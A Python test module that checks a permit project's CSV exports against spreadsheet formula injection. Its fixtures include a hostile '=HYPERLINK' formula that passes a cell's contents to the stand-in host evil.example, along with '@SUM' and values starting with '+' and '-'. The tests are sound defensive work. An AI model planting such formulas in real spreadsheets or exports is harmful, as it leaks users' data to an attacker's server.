"""No CSV the project makes runs in a spreadsheet.  Every CSV is written by
the one writer (workflows/spreadsheet.py): a test reads every module of
the project and finds no other use of :mod:`csv`'s writers.  Then each CSV
the project hands out is fed a hostile cell (an applicant, a site, an
abutter named ``=HYPERLINK(...)``, ``+...``, ``-...``, ``@...``): every
route of the workbench (found from app.routes) that answers with
``text/csv``, and every CSV file ``permits notices`` writes, for a filing
file and for a filing in the store.  No cell may start a formula."""

from __future__ import annotations

import ast
import copy
import csv
import io
import json
from pathlib import Path

from kit import report_row
from notice_fixtures import filing_for
from routekit import ROLES, fill, routes, values_for, world

from cli.main import main
from services.database import upgrade_store
from services.imports import import_filings
from workflows.spreadsheet import FORMULA_STARTS

ROOT = Path(__file__).resolve().parents[2]
PACKAGES = ("calendars", "workflows", "models", "notices", "config", "sweep", "demo", "services", "cli", "web", "benchmarks")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_ABUTTERS = f'''Map/Lot,Owner Name,Mailing Address
-12-034,"{HYPERLINK.replace('"', '""')}","+1 Elm St, Canton, MA 02021"
12-035,@SUM(A1:A9),"14 Elm St, Canton, MA 02021"
'''


def _writer_uses(source: str) -> list[str]:
    """Where ``source`` writes CSV without the one writer: csv.writer,
    csv.DictWriter, or either imported from csv."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"{node.lineno}: csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"{node.lineno}: from csv import {a.name}" for a in node.names if a.name in ("writer", "DictWriter")]
    return found


def test_no_module_of_the_project_writes_csv_but_the_one_writer():
    found = [
        f"{path.relative_to(ROOT)}:{use}"
        for pkg in PACKAGES
        for path in sorted((ROOT / pkg).rglob("*.py"))
        if path != ROOT / "workflows" / "spreadsheet.py"
        for use in _writer_uses(path.read_text(encoding="utf-8"))
    ]
    assert found == [], "CSV written outside workflows/spreadsheet.py (use csv_text):\n" + "\n".join(found)


def test_the_writer_check_finds_each_planted_writer():
    planted = "import csv\nw = csv.writer(f)\nd = csv.DictWriter(f, x)\nfrom csv import writer\n"
    assert len(_writer_uses(planted)) == 3


def runs_a_formula(cell: str) -> bool:
    stripped = cell.lstrip(" \u00a0\u3000\t\r\n\v\f")
    return bool(cell) and cell[0] != "'" and (cell[0] in FORMULA_STARTS or (bool(stripped) and stripped[0] in FORMULA_STARTS))


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if runs_a_formula(cell)]


def _hostile_filing() -> dict:
    from webkit import FILINGS

    obj = copy.deepcopy(FILINGS[0])
    obj["id"] = "CAN-NOI-2026-066"
    obj["address"] = obj["site"]["address"] = "+1 Elm St"
    obj["parcel"] = obj["site"]["parcel"] = "-12-066"
    obj["applicant"] = {**obj["applicant"], "name": HYPERLINK}
    obj["project"] = {"description": "@SUM(A1:A9)"}
    return obj


def test_every_csv_route_of_the_workbench_writes_a_hostile_applicant_as_text(store):
    import_filings(store, [_hostile_filing()], by="test")
    values, clients, extra = world(store)
    found, bad, fed = [], [], 0
    for route in routes(clients["admin"].app):
        if "GET" not in route.methods:
            continue
        for who in ROLES:
            # the widest window a list offers, so every filing is on it
            path = fill(route.path, values_for(route.path, who, values, extra)) + "?within=366"
            r = clients[who].get(path)
            if r.status_code != 200 or not r.headers.get("content-type", "").startswith("text/csv"):
                continue
            found.append(f"{who} {route.path}")
            fed += any("'" + HYPERLINK in row for row in csv.reader(io.StringIO(r.text)))
            bad += [f"{who} {path}: {c!r}" for c in _formula_cells(r.text)]
    assert found, "no CSV route found: the test would check nothing"
    assert fed, "the hostile applicant reached no CSV: the test fed nothing"
    assert bad == [], "\n".join(bad)
    report_row("CSV routes fed a hostile cell", len(found), tracebacks=len(bad))


def test_every_csv_the_notices_command_writes_holds_hostile_abutters_as_text(tmp_path, capsys):
    filing = tmp_path / "filing.json"
    filing.write_text(json.dumps(filing_for("canton", "noi", "abutter-notice").to_json()), encoding="utf-8")
    hostile = tmp_path / "abutters.csv"
    hostile.write_text(HOSTILE_ABUTTERS, encoding="utf-8")
    written = []
    for fmt in ("txt", "html", "pdf"):
        out = tmp_path / f"out-{fmt}"
        argv = ["notices", str(filing), "--kind", "abutter-notice", "--abutters", str(hostile), "--format", fmt]
        argv += ["--out", str(out), "--as-of", "2026-12-03", "--at", "2026-12-03T09:30", "--again"]
        assert main(argv) == 0, capsys.readouterr().err
        written += sorted(out.glob("*.csv"))
    assert len(written) == 3
    bad = [f"{p.name}: {c!r}" for p in written for c in _formula_cells(p.read_text(encoding="utf-8"))]
    assert bad == [], "\n".join(bad)
    text = written[0].read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'+1 Elm St" in text and "'@SUM(A1:A9)" in text and "'-12-034" in text
    report_row("CSV files of 'permits notices' fed hostile abutters", len(written), tracebacks=len(bad))


def test_the_notices_command_for_a_filing_in_the_store_uses_its_stored_hostile_list(tmp_path, capsys):
    from models.handle import Store
    from services.abutters import upload_abutter_list

    url = f"sqlite:///{tmp_path / 'permits.db'}"
    store = Store(url)
    upgrade_store(store)
    import_filings(store, [filing_for("canton", "noi", "abutter-notice").to_json()], by="test")
    upload_abutter_list(store, "CAN-NOI-2026-014", HOSTILE_ABUTTERS.encode(), "abutters.csv")
    out = tmp_path / "out"
    argv = ["notices", "CAN-NOI-2026-014", "--kind", "abutter-notice", "--format", "txt", "--out", str(out), "--db", url]
    assert main([*argv, "--as-of", "2026-12-03", "--at", "2026-12-03T09:30"]) == 0, capsys.readouterr().err
    [written] = out.glob("*.csv")
    assert _formula_cells(written.read_text(encoding="utf-8")) == []
    assert "'=HYPERLINK" in written.read_text(encoding="utf-8")
    store.engine.dispose()
